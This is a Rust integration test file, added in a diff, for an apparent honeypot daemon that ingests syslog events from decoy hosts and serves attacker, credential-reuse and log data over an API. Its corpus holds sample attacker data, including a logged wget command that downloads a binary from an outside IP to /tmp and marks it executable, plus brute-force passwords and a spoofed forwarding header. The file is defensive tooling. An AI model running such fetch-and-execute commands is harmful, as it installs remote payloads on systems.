@@ -1,0 +1,724 @@
+//! Intake end to end: the same corpus through `ingest_files`, the file tail, plain TCP and
+//! TLS (client certificate made here with rcgen) gives identical rows; a crash between or
+//! inside batches loses and duplicates nothing; storage on both backends.
+//!
+//! PostgreSQL cases: `eval "$(scripts/pg start)"; cargo test --test intake; scripts/pg stop`.
+
+mod common;
+
+use std::io::Write;
+use std::path::Path;
+use std::sync::Arc;
+use std::time::Duration;
+
+use decnetd::actors::ingester::{ingest_files, FileTail, IngestCounters, Pipeline, TailRead};
+use decnetd::config::{IngestSettings, Settings};
+use decnetd::db::repo::intake as repo;
+use decnetd::db::Db;
+use decnetd::domain::syslog::credential::sha256_hex;
+use decnetd::domain::syslog::sd::render_relay_element;
+use decnetd::testkit;
+
+/// Deterministic corpus: the spec's example lines, a credential reused across deckies,
+/// traversals, prober results, wrapped bash, noise, duplicates and garbage.
+fn corpus() -> Vec<String> {
+    let mut v: Vec<String> = vec![
+        r#"<134>1 2026-05-14T09:12:03.481220+00:00 web-decky-03 auth-helper - auth_attempt [relay@55555 username="admin" principal="admin" secret_printable="P@ssw0rd!" secret_b64="UEBzc3cwcmQh" src_ip="203.0.113.45"]"#.into(),
+        r#"<134>1 2026-05-14T09:12:05.002117+00:00 web-decky-03 auth-helper - auth_attempt [relay@55555 username="root" principal="root" secret_printable="?admin?" secret_b64="AGFkbWlu/w==" src_ip="203.0.113.45"]"#.into(),
+        r#"<14>1 2026-05-14T09:12:41.102934+00:00 web-decky-03 1 - - -  2026-05-14T09:12:41.102911+00:00 web-decky-03 bash - command [timeQuality tzKnown="1" isSynced="1"] CMD uid=0 user=root src=203.0.113.45 pwd=/tmp cmd=wget -q http://198.51.100.23:8080/x86.bin -O /tmp/.x; chmod +x /tmp/.x"#.into(),
+        r#"<134>1 2026-05-14T09:12:44.550102+00:00 web-decky-03 ssh - file_captured [relay@55555 stored_as="2026-05-14T09:12:44Z_7244c4edb45a_.x" sha256="7244c4edb45a6ebc164882075ba9c64484b7357a80cfc393135b8c442046a4c7" size="48212" orig_path="/tmp/.x" src_ip="203.0.113.45" src_port="51822" ssh_user="root" attribution="pid-chain" writer_comm="wget"]"#.into(),
+        r#"<134>1 2026-05-14T09:20:10.004512+00:00 intranet-02 http - request [relay@55555 method="POST" path="/wp-login.php" remote_addr="198.51.100.77" headers="{\"Host\": \"10.20.0.12\", \"User-Agent\": \"Mozilla/5.0 (compatible; Nuclei - Open-source project)\", \"X-Forwarded-For\": \"127.0.0.1\", \"Content-Type\": \"application/x-www-form-urlencoded\"}" body="log=admin&pwd=letmein" principal="admin" secret_kind="plaintext" secret_printable="letmein" secret_b64="bGV0bWVpbg=="]"#.into(),
+        r#"<134>1 2026-05-14T09:20:10.010230+00:00 intranet-02 http - http_request_fingerprint [relay@55555 remote_addr="198.51.100.77:40122" proto="h1" method="POST" path="/wp-login.php" ja4h="po11nn0000_04_3f2a1c9b8d7e_000000000000" headers_ordered="[\"host\"]" cookie="" accept_language=""]"#.into(),
+        r#"<134>1 2026-05-14T09:21:55.771003+00:00 intranet-02 sniffer - tls_client_hello [relay@55555 src_ip="198.51.100.77" src_port="40130" dst_ip="10.20.0.12" dst_port="443" ja3="920a9eebe236a8205f28dd68763c3d0f" ja4="t13d1516h2_8daaf6152771_02713d6af862" tls_version="TLS 1.3" sni="intranet.corp.example" alpn="h2,http/1.1"]"#.into(),
+        r#"<134>1 2026-05-14T09:25:00.120044+00:00 decnet-prober prober - jarm_fingerprint [relay@55555 target_ip="198.51.100.77" target_port="8443" jarm_hash="2ad2ad0002ad2ad22c2ad2ad2ad2ad2eac92ec34bcc0cf7520e97547f83e81"] JARM"#.into(),
+        r#"<134>1 2026-05-14T09:25:01.884310+00:00 decnet-prober prober - tls_certificate [relay@55555 target_ip="198.51.100.77" target_port="8443" subject_cn="update-cdn.example" issuer="CN=update-cdn.example" self_signed="true" cert_sha256="9fbda61d1ee5d808b1f7169a5bf4085f16a248649a7e42dff0342df7562d7019"] TLS cert"#.into(),
+        r#"<134>1 2026-05-14T09:30:00.000412+00:00 mail-01 smtp - connect [relay@55555 src_ip="192.0.2.10" src_port="50022"]"#.into(),
+        r#"<134>1 2026-05-14T09:30:00.500000+00:00 mail-01 smtp - connect [relay@55555 src_ip="192.0.2.10" src_port="50023"]"#.into(),
+        r#"<38>1 2026-05-14T09:12:02.990001+00:00 web-decky-03 sshd 940 - - Failed password for admin from 203.0.113.45 port 51822 ssh2"#.into(),
+        "Connection reset by peer".into(),
+        r#"<134>1 2026-05-14T09:40:00Z db-07 mysql - auth [relay@55555 src_ip="192.0.2.99" broken="no end"#.into(),
+        String::new(),
+    ];
+    let deckies = ["alpha", "beta", "gamma", "delta"];
+    for i in 0..240u32 {
+        let ip = format!("198.18.{}.{}", i % 7, 10 + (i % 13));
+        let decky = deckies[(i % 4) as usize];
+        let ts = format!(
+            "2026-05-15T10:{:02}:{:02}.{:06}Z",
+            (i / 60) % 60,
+            i % 60,
+            i * 7
+        );
+        let line = match i % 5 {
+            0 => {
+                let sd = render_relay_element([("username", "oracle"), ("secret_printable", "hunter2"), ("secret_b64", "aHVudGVyMg=="), ("src_ip", ip.as_str())]);
+                format!("<134>1 {ts} {decky} ssh - auth_attempt {sd}")
+            }
+            1 => {
+                let headers = format!(r#"{{"Host": "h", "User-Agent": "curl/8.{}", "Accept": "*/*"}}"#, i % 3);
+                let sd = render_relay_element([("method", "GET"), ("path", "/x"), ("remote_addr", &format!("{ip}:{}", 1000 + i)), ("headers", &headers)]);
+                format!("<134>1 {ts} {decky} http - request {sd}")
+            }
+            2 => format!("<14>1 {ts} {decky} 1 - - -  {ts} {decky} bash - command - CMD uid=0 user=root src={ip} pwd=/ cmd=id -u {i}"),
+            3 => {
+                let sd = render_relay_element([("target_ip", ip.as_str()), ("target_port", "22"), ("hassh_server_hash", "4b93a7ce3a336cf77b1fea112db4400c"), ("note", "esc \"q\" ] b")]);
+                format!("<134>1 {ts} decnet-prober prober - hassh_fingerprint {sd}")
+            }
+            _ => {
+                let sd = render_relay_element([("src_ip", ip.as_str()), ("query", "SELECT 1")]);
+                format!("<134>1 {ts} {decky} mysql - query {sd}")
+            }
+        };
+        v.push(line);
+    }
+    // an exact duplicate line (replayed by a forwarder) must not double anything
+    let dup = v[0].clone();
+    v.push(dup);
+    v
+}
+
+fn write_lines(path: &Path, lines: &[String]) {
+    let mut f = std::fs::OpenOptions::new()
+        .create(true)
+        .append(true)
+        .open(path)
+        .unwrap();
+    for l in lines {
+        writeln!(f, "{l}").unwrap();
+    }
+}
+
+fn ingest_settings() -> IngestSettings {
+    IngestSettings {
+        batch_size: 50,
+        batch_max_wait_ms: 50,
+        reuse_poll_s: 0.2,
+        ..IngestSettings::default()
+    }
+}
+
+/// Everything but ids, uuids and write times, in a stable order.
+async fn snapshot(db: &Db) -> serde_json::Value {
+    let logs: Vec<_> = repo::all_logs(db)
+        .await
+        .unwrap()
+        .into_iter()
+        .map(|l| {
+            serde_json::json!([
+                l.timestamp.to_string(),
+                l.decky,
+                l.service,
+                l.event_type,
+                l.attacker_ip,
+                l.raw_line,
+                l.fields,
+                l.msg
+            ])
+        })
+        .collect();
+    let attackers: Vec<_> = repo::all_attackers(db)
+        .await
+        .unwrap()
+        .into_iter()
+        .map(|a| {
+            let mut fps: serde_json::Value = serde_json::from_str(&a.fingerprints).unwrap();
+            for fp in fps.as_array_mut().unwrap() {
+                fp.as_object_mut().unwrap().remove("id");
+            }
+            serde_json::json!([
+                a.ip,
+                a.first_seen.to_string(),
+                a.last_seen.to_string(),
+                a.event_count,
+                a.service_count,
+                a.decky_count,
+                a.services,
+                a.deckies,
+                a.traversal_path,
+                a.is_traversal,
+                a.bounty_count,
+                a.credential_count,
+                fps,
+                a.commands
+            ])
+        })
+        .collect();
+    let creds: Vec<_> = repo::all_credentials(db)
+        .await
+        .unwrap()
+        .into_iter()
+        .map(|c| {
+            serde_json::json!([
+                c.attacker_ip,
+                c.decky_name,
+                c.service,
+                c.principal,
+                c.secret_kind,
+                c.secret_sha256,
+                c.secret_b64,
+                c.attempt_count,
+                c.fields,
+                c.first_seen.to_string(),
+                c.attacker_uuid.is_some()
+            ])
+        })
+        .collect();
+    let mut bounties = repo::all_bounties(db).await.unwrap();
+    bounties.sort();
+    let mut reuse: Vec<_> = repo::all_reuse(db)
+        .await
+        .unwrap()
+        .into_iter()
+        .map(|r| {
+            serde_json::json!([
+                r.secret_sha256,
+                r.principal,
+                r.attacker_ips,
+                r.deckies,
+                r.services,
+                r.target_count,
+                r.attempt_count
+            ])
+        })
+        .collect();
+    reuse.sort_by_key(|v| v.to_string());
+    serde_json::json!({"logs": logs, "attackers": attackers, "credentials": creds, "bounty": bounties, "reuse": reuse})
+}
+
+macro_rules! on_both_backends {
+    ($($name:ident),* $(,)?) => {$(
+        mod $name {
+            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+            async fn sqlite() {
+                let (_dir, db) = crate::common::sqlite_db().await;
+                super::$name(&db).await;
+            }
+
+            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+            async fn postgres() {
+                let Some(db) = crate::common::pg_db().await else { return };
+                super::$name(&db).await;
+            }
+        }
+    )*};
+}
+
+on_both_backends!(
+    replay_is_idempotent_and_rows_are_right,
+    crash_between_and_inside_batches
+);
+
+async fn replay_is_idempotent_and_rows_are_right(db: &Db) {
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("corpus.log");
+    let lines = corpus();
+    write_lines(&file, &lines);
+    let s = ingest_settings();
+    let first = ingest_files(db, None, &s, std::slice::from_ref(&file), false)
+        .await
+        .unwrap();
+    assert_eq!(first.lines, lines.len() as u64);
+    // 2 garbage lines quarantined; sshd and one rate-limited connect filtered; 1 duplicate; 1 empty
+    assert_eq!(first.quarantined, 2);
+    assert_eq!(first.duplicates, 1);
+    let stored = repo::count_logs(db).await.unwrap();
+    assert_eq!(stored as u64, first.logs_inserted);
+    assert_eq!(first.logs_inserted, lines.len() as u64 - 2 - 2 - 1 - 1);
+    let (qtotal, q) = repo::list_quarantine(db, 10, 0).await.unwrap();
+    assert_eq!(qtotal, 2);
+    assert!(q.iter().any(|r| r.reason_code == "not_syslog"));
+    assert!(q.iter().any(|r| r.reason_code == "structured_data"));
+
+    let creds = repo::all_credentials(db).await.unwrap();
+    let bytes_cred = creds
+        .iter()
+        .find(|c| c.principal.as_deref() == Some("root") && c.attacker_ip == "203.0.113.45")
+        .unwrap();
+    assert_eq!(
+        bytes_cred.secret_sha256,
+        sha256_hex(&[0, 0x61, 0x64, 0x6d, 0x69, 0x6e, 0xff])
+    );
+    let admin = creds
+        .iter()
+        .find(|c| c.principal.as_deref() == Some("admin") && c.decky_name == "web-decky-03")
+        .unwrap();
+    assert_eq!(
+        admin.attempt_count, 1,
+        "the duplicated line did not count twice"
+    );
+    assert!(
+        creds.iter().all(|c| c.attacker_uuid.is_some()),
+        "uuids back-filled"
+    );
+
+    let attackers = repo::all_attackers(db).await.unwrap();
+    let a = attackers.iter().find(|a| a.ip == "203.0.113.45").unwrap();
+    assert_eq!(a.event_count, 4);
+    assert_eq!(a.credential_count, 2);
+    let cmds: serde_json::Value = serde_json::from_str(&a.commands).unwrap();
+    assert_eq!(
+        cmds[0]["command"],
+        "wget -q http://198.51.100.23:8080/x86.bin -O /tmp/.x; chmod +x /tmp/.x"
+    );
+    let m = attackers.iter().find(|a| a.ip == "198.51.100.77").unwrap();
+    let fps: serde_json::Value = serde_json::from_str(&m.fingerprints).unwrap();
+    let kinds: Vec<&str> = fps
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["payload"]["fingerprint_type"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        kinds,
+        vec![
+            "http_useragent",
+            "spoofed_source",
+            "http_quirks",
+            "ja4h",
+            "ja3",
+            "jarm",
+            "tls_certificate"
+        ]
+    );
+    assert!(!m.is_traversal);
+    assert!(attackers.iter().any(|a| a.is_traversal
+        && a.traversal_path
+            .as_deref()
+            .is_some_and(|p| p.contains(" → "))));
+
+    let reuse = repo::all_reuse(db).await.unwrap();
+    let hunter = reuse
+        .iter()
+        .find(|r| r.secret_sha256 == sha256_hex(b"hunter2"))
+        .unwrap();
+    assert_eq!(hunter.target_count, 4);
+    assert_eq!(first.reuse_findings, reuse.len() as u64);
+
+    // a second run adds nothing at all
+    let before = snapshot(db).await;
+    let second = ingest_files(db, None, &s, &[file], false).await.unwrap();
+    assert_eq!(second.logs_inserted, 0);
+    assert_eq!(second.quarantined, 0);
+    assert_eq!(second.reuse_findings, 0, "no drift on an idle pass");
+    assert_eq!(snapshot(db).await, before);
+}
+
+async fn reference_snapshot(lines: &[String]) -> serde_json::Value {
+    let (_d, db) = common::sqlite_db().await;
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("ref.log");
+    write_lines(&file, lines);
+    ingest_files(&db, None, &ingest_settings(), &[file], false)
+        .await
+        .unwrap();
+    snapshot(&db).await
+}
+
+/// Drive the real tail + pipeline by hand: commit some batches, cancel one commit midway
+/// (its transaction rolls back), drop everything ("crash"), restart from the stored offset.
+async fn crash_between_and_inside_batches(db: &Db) {
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("ingest.log");
+    let lines = corpus();
+    write_lines(&file, &lines);
+    // a partial trailing line must wait for its newline
+    {
+        let mut f = std::fs::OpenOptions::new()
+            .append(true)
+            .open(&file)
+            .unwrap();
+        write!(
+            f,
+            "<134>1 2026-05-16T00:00:00Z zeta ftp - user [relay@55555 src_ip=\"192.0.2.200\""
+        )
+        .unwrap();
+    }
+    let s = ingest_settings();
+    let counters = Arc::new(IngestCounters::default());
+    {
+        let mut tail = FileTail::load(db, &file).await.unwrap();
+        let mut p = Pipeline::new(db.clone(), None, &s, counters.clone());
+        for _ in 0..2 {
+            let TailRead::Lines(batch, end) = tail.read(40).unwrap() else {
+                panic!("expected lines")
+            };
+            p.commit(&batch, Some(end)).await.unwrap();
+            tail.position = end;
+        }
+        let TailRead::Lines(batch, end) = tail.read(40).unwrap() else {
+            panic!("expected lines")
+        };
+        // cancelled inside the transaction: nothing of it may stick
+        let _ = tokio::time::timeout(Duration::from_micros(50), p.commit(&batch, Some(end))).await;
+    }
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    {
+        let mut tail = FileTail::load(db, &file).await.unwrap();
+        let mut p = Pipeline::new(db.clone(), None, &s, counters.clone());
+        loop {
+            match tail.read(40).unwrap() {
+                TailRead::Lines(batch, end) => {
+                    p.commit(&batch, Some(end)).await.unwrap();
+                    tail.position = end;
+                }
+                TailRead::Reset => continue,
+                TailRead::Idle => break,
+            }
+        }
+        p.reuse_pass(s.reuse_min_targets).await.unwrap();
+    }
+    // the partial line was not consumed
+    let stored = decnetd::db::repo::state::get(db, "ingest_worker_position")
+        .await
+        .unwrap()
+        .unwrap();
+    let complete_len: u64 = lines.iter().map(|l| l.len() as u64 + 1).sum();
+    assert_eq!(stored["position"], complete_len);
+    assert_eq!(snapshot(db).await, reference_snapshot(&lines).await);
+    // truncation resets to 0 (persisted by the daemon loop; here: the tail reports it)
+    std::fs::write(&file, b"").unwrap();
+    let mut tail = FileTail::load(db, &file).await.unwrap();
+    assert!(matches!(tail.read(10).unwrap(), TailRead::Reset));
+    assert_eq!(tail.position, 0);
+}
+
+// ---------------------------------------------------------------- the daemon, three ways
+
+fn daemon_settings(dir: &Path) -> Settings {
+    let mut s = testkit::settings(dir, None);
+    s.ingest = IngestSettings {
+        log_file: dir.join("ingest.log"),
+        ..ingest_settings()
+    };
+    s.workers.disabled = decnetd::actors::supervisor::DISPLAY_ORDER
+        .iter()
+        .filter(|n| !matches!(**n, "ingester" | "heartbeat" | "api" | "bus"))
+        .map(|n| n.to_string())
+        .collect();
+    s
+}
+
+fn free_port() -> u16 {
+    std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port()
+}
+
+async fn wait_for_rows(db: &Db, want: i64) {
+    let ok = testkit::eventually(Duration::from_secs(60), || async {
+        let n = repo::count_logs(db).await.ok()?;
+        let reuse = repo::all_reuse(db).await.ok()?;
+        (n >= want && !reuse.is_empty()).then_some(())
+    })
+    .await;
+    if ok.is_none() {
+        let n = repo::count_logs(db).await.unwrap();
+        let r = repo::all_reuse(db).await.unwrap().len();
+        let q = repo::list_quarantine(db, 100, 0).await.unwrap();
+        panic!("rows did not arrive: {n} logs of {want}, {r} reuse rows, quarantine {q:?}");
+    }
+    // let the reuse pass settle
+    tokio::time::sleep(Duration::from_millis(1500)).await;
+}
+
+fn octet_frames(lines: &[String]) -> Vec<u8> {
+    let mut out = Vec::new();
+    // RFC 6587 lengths are non-zero: an empty line only exists in newline framing.
+    for (i, l) in lines.iter().filter(|l| !l.is_empty()).enumerate() {
+        if i % 2 == 0 {
+            out.extend_from_slice(format!("{} ", l.len()).as_bytes());
+            out.extend_from_slice(l.as_bytes());
+        } else {
+            out.extend_from_slice(l.as_bytes());
+            out.push(b'\n');
+        }
+    }
+    out
+}
+
+struct Pki {
+    ca_pem: String,
+    server_pem: String,
+    server_key: String,
+    client_der: Vec<u8>,
+    client_key_der: Vec<u8>,
+    ca_der: Vec<u8>,
+}
+
+fn make_pki() -> Pki {
+    use rcgen::{BasicConstraints, CertificateParams, DnType, IsCa, KeyPair};
+    let mut ca = CertificateParams::new(Vec::<String>::new()).unwrap();
+    ca.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
+    ca.distinguished_name
+        .push(DnType::CommonName, "DECNET test CA");
+    let ca_key = KeyPair::generate().unwrap();
+    let ca_cert = ca.self_signed(&ca_key).unwrap();
+    let srv =
+        CertificateParams::new(vec!["localhost".to_string(), "127.0.0.1".to_string()]).unwrap();
+    let srv_key = KeyPair::generate().unwrap();
+    let srv_cert = srv.signed_by(&srv_key, &ca_cert, &ca_key).unwrap();
+    let mut cli = CertificateParams::new(Vec::<String>::new()).unwrap();
+    cli.distinguished_name.push(DnType::CommonName, "worker-7");
+    let cli_key = KeyPair::generate().unwrap();
+    let cli_cert = cli.signed_by(&cli_key, &ca_cert, &ca_key).unwrap();
+    Pki {
+        ca_pem: ca_cert.pem(),
+        server_pem: srv_cert.pem(),
+        server_key: srv_key.serialize_pem(),
+        client_der: cli_cert.der().to_vec(),
+        client_key_der: cli_key.serialize_der(),
+        ca_der: ca_cert.der().to_vec(),
+    }
+}
+
+async fn tls_send(port: u16, pki: &Pki, payload: &[u8]) {
+    use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer, ServerName};
+    use tokio::io::AsyncWriteExt;
+    let provider = Arc::new(rustls::crypto::ring::default_provider());
+    let mut roots = rustls::RootCertStore::empty();
+    roots.add(CertificateDer::from(pki.ca_der.clone())).unwrap();
+    let cfg = rustls::ClientConfig::builder_with_provider(provider)
+        .with_safe_default_protocol_versions()
+        .unwrap()
+        .with_root_certificates(roots)
+        .with_client_auth_cert(
+            vec![CertificateDer::from(pki.client_der.clone())],
+            PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(pki.client_key_der.clone())),
+        )
+        .unwrap();
+    let connector = tokio_rustls::TlsConnector::from(Arc::new(cfg));
+    let tcp = tokio::net::TcpStream::connect(("127.0.0.1", port))
+        .await
+        .unwrap();
+    let mut tls = connector
+        .connect(ServerName::try_from("localhost").unwrap(), tcp)
+        .await
+        .unwrap();
+    tls.write_all(payload).await.unwrap();
+    tls.flush().await.unwrap();
+    tls.shutdown().await.unwrap();
+}
+
+#[actix_rt::test]
+async fn same_corpus_three_ways_gives_identical_rows() {
+    let lines = corpus();
+    let expected_logs = {
+        let (_d, db) = common::sqlite_db().await;
+        let dir = tempfile::tempdir().unwrap();
+        let f = dir.path().join("x.log");
+        write_lines(&f, &lines);
+        ingest_files(&db, None, &ingest_settings(), &[f], false)
+            .await
+            .unwrap()
+            .logs_inserted as i64
+    };
+    let reference = reference_snapshot(&lines).await;
+
+    // 1. file tail, with a restart of the daemon half-way (no loss, no duplicates)
+    let dir = tempfile::tempdir().unwrap();
+    let s = daemon_settings(dir.path());
+    let half = lines.len() / 2;
+    write_lines(&s.ingest.log_file, &lines[..half]);
+    let app = testkit::start(s.clone()).await.unwrap();
+    let ok = testkit::eventually(Duration::from_secs(60), || async {
+        let st = decnetd::db::repo::state::get(&app.state.db, "ingest_worker_position")
+            .await
+            .ok()??;
+        let want: u64 = lines[..half].iter().map(|l| l.len() as u64 + 1).sum();
+        (st["position"].as_u64()? == want).then_some(())
+    })
+    .await;
+    assert!(ok.is_some(), "first half not ingested");
+    app.stop().await;
+    write_lines(&s.ingest.log_file, &lines[half..]);
+    let app = testkit::start(s.clone()).await.unwrap();
+    wait_for_rows(&app.state.db, expected_logs).await;
+    assert_eq!(snapshot(&app.state.db).await, reference, "file tail");
+    app.stop().await;
+
+    // 2. plain TCP, octet-counted and newline frames mixed
+    let dir = tempfile::tempdir().unwrap();
+    let mut s = daemon_settings(dir.path());
+    let port = free_port();
+    s.ingest.syslog_tcp_bind = Some(format!("127.0.0.1:{port}"));
+    let app = testkit::start(s).await.unwrap();
+    {
+        use tokio::io::AsyncWriteExt;
+        let mut sock = None;
+        for _ in 0..100 {
+            if let Ok(c) = tokio::net::TcpStream::connect(("127.0.0.1", port)).await {
+                sock = Some(c);
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(50)).await;
+        }
+        let mut sock = sock.expect("TCP listener up");
+        sock.write_all(&octet_frames(&lines)).await.unwrap();
+        sock.shutdown().await.unwrap();
+        // an oversize frame closes only its own connection
+        let mut bad = tokio::net::TcpStream::connect(("127.0.0.1", port))
+            .await
+            .unwrap();
+        let _ = bad.write_all(b"99999999 xx").await;
+    }
+    wait_for_rows(&app.state.db, expected_logs).await;
+    assert_eq!(snapshot(&app.state.db).await, reference, "TCP");
+    app.stop().await;
+
+    // 3. TLS with a client certificate; CN recorded as source_worker
+    let dir = tempfile::tempdir().unwrap();
+    let pki = make_pki();
+    for (name, pem) in [
+        ("ca.pem", &pki.ca_pem),
+        ("srv.pem", &pki.server_pem),
+        ("srv.key", &pki.server_key),
+    ] {
+        std::fs::write(dir.path().join(name), pem).unwrap();
+    }
+    let mut s = daemon_settings(dir.path());
+    let port = free_port();
+    s.ingest.syslog_tls_host = "127.0.0.1".into();
+    s.ingest.syslog_tls_port = port;
+    s.ingest.tls_ca = Some(dir.path().join("ca.pem"));
+    s.ingest.tls_cert = Some(dir.path().join("srv.pem"));
+    s.ingest.tls_key = Some(dir.path().join("srv.key"));
+    let app = testkit::start(s).await.unwrap();
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    tls_send(port, &pki, &octet_frames(&lines)).await;
+    wait_for_rows(&app.state.db, expected_logs).await;
+    assert_eq!(snapshot(&app.state.db).await, reference, "TLS");
+    let logs = repo::all_logs(&app.state.db).await.unwrap();
+    assert!(logs
+        .iter()
+        .all(|l| l.source_worker.as_deref() == Some("worker-7")));
+    app.stop().await;
+}
+
+// ---------------------------------------------------------------- HTTP routes
+
+#[actix_rt::test]
+async fn routes_serve_the_ingested_rows() {
+    let dir = tempfile::tempdir().unwrap();
+    let s = daemon_settings(dir.path());
+    let app = testkit::start(s).await.unwrap();
+    let file = dir.path().join("corpus.log");
+    write_lines(&file, &corpus());
+    ingest_files(&app.state.db, None, &ingest_settings(), &[file], false)
+        .await
+        .unwrap();
+    let token = testkit::token_for(&app, "viewer1", "viewer").await;
+    let base = format!("{}/api/v1", app.base_url());
+    let client = reqwest::Client::new();
+    let get = |path: String| {
+        let req = client.get(format!("{base}{path}")).bearer_auth(&token);
+        async move {
+            let r = req.send().await.unwrap();
+            let status = r.status().as_u16();
+            (
+                status,
+                r.json::<serde_json::Value>().await.unwrap_or_default(),
+            )
+        }
+    };
+
+    // 401 without a token
+    let r = client
+        .get(format!("{base}/credential-reuse"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status().as_u16(), 401);
+
+    let (st, body) = get("/attackers?limit=5&sort_by=active".into()).await;
+    assert_eq!(st, 200, "{body}");
+    assert!(body["total"].as_i64().unwrap() > 5);
+    assert_eq!(body["data"].as_array().unwrap().len(), 5);
+    let counts: Vec<i64> = body["data"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a["event_count"].as_i64().unwrap())
+        .collect();
+    assert!(counts.windows(2).all(|w| w[0] >= w[1]));
+    assert!(body["data"][0]["services"].is_array());
+    assert!(body["data"][0]["first_seen"]
+        .as_str()
+        .unwrap()
+        .ends_with('Z'));
+    let (st, _) = get("/attackers?sort_by=bogus".into()).await;
+    assert_eq!(st, 422);
+    let (_, body) = get("/attackers?search=198.51.100.77&service=null".into()).await;
+    assert_eq!(body["total"], 1);
+    let uuid = body["data"][0]["uuid"].as_str().unwrap().to_string();
+    let (_, body) = get("/attackers?service=sniffer".into()).await;
+    assert_eq!(body["total"], 1);
+
+    let (st, detail) = get(format!("/attackers/{uuid}")).await;
+    assert_eq!(st, 200);
+    assert_eq!(
+        detail["fingerprints"][0]["payload"]["fingerprint_type"],
+        "http_useragent"
+    );
+    assert_eq!(
+        detail["service_activity"]["scanned"],
+        serde_json::json!(["http", "prober", "sniffer"])
+    );
+    assert_eq!(detail["ip_leaks_total"], 0);
+    assert!(detail["behavior"].is_null());
+    let (st, body) = get("/attackers/no-such-uuid".into()).await;
+    assert_eq!(
+        (st, body["detail"].as_str()),
+        (404, Some("Attacker not found"))
+    );
+
+    let (_, body) = get("/attackers?search=203.0.113.45".into()).await;
+    let a45 = body["data"][0]["uuid"].as_str().unwrap().to_string();
+    let (st, cmds) = get(format!("/attackers/{a45}/commands?limit=999")).await;
+    assert_eq!(st, 200, "commands never answer 422");
+    assert_eq!(cmds["total"], 1);
+    let (_, arts) = get(format!("/attackers/{a45}/artifacts")).await;
+    assert_eq!(arts["total"], 1);
+
+    let (_, creds) = get("/credentials?search=oracle&limit=3".into()).await;
+    assert_eq!(creds["data"].as_array().unwrap().len(), 3);
+    assert!(creds["data"][0]["fields"].is_object());
+    let (_, creds) = get("/credentials?attacker_ip=203.0.113.45".into()).await;
+    assert_eq!(creds["total"], 2);
+
+    let (st, reuse) = get("/credential-reuse?limit=50".into()).await;
+    assert_eq!(st, 200);
+    let first = &reuse["data"][0];
+    assert_eq!(first["secret_printable"], "hunter2");
+    assert_eq!(first["secret_b64"], "aHVudGVyMg==");
+    assert_eq!(first["target_count"], 4);
+    assert!(first["attacker_ips"].is_array());
+    let id = first["id"].as_str().unwrap().to_string();
+    let (st, one) = get(format!("/credential-reuse/{id}")).await;
+    assert_eq!(
+        (st, one["secret_printable"].as_str()),
+        (200, Some("hunter2"))
+    );
+    let (st, body) = get("/credential-reuse/nope".into()).await;
+    assert_eq!(
+        (st, body["detail"].as_str()),
+        (404, Some("credential_reuse not found"))
+    );
+    let (_, none) = get("/credential-reuse?min_target_count=5".into()).await;
+    assert_eq!(none["total"], 0);
+    let (st, _) = get("/credential-reuse?min_target_count=1".into()).await;
+    assert_eq!(st, 422);
+    let (_, kind) = get("/credential-reuse?secret_kind=http_bearer".into()).await;
+    assert_eq!(kind["total"], 0);
+
+    let (_, logs) = get("/logs?search=service:mysql%20query:%22SELECT%201%22&limit=2".into()).await;
+    assert_eq!(logs["total"], 48);
+    let (_, logs) = get("/logs?search=decky:alpha%20event:command".into()).await;
+    assert_eq!(logs["total"], 12);
+    let (_, logs) = get("/logs?search=x86.bin".into()).await;
+    assert_eq!(logs["total"], 1);
+    let (st, _) = get("/ingest/quarantine".into()).await;
+    assert_eq!(st, 403, "quarantine is admin-only");
+    app.stop().await;
+}
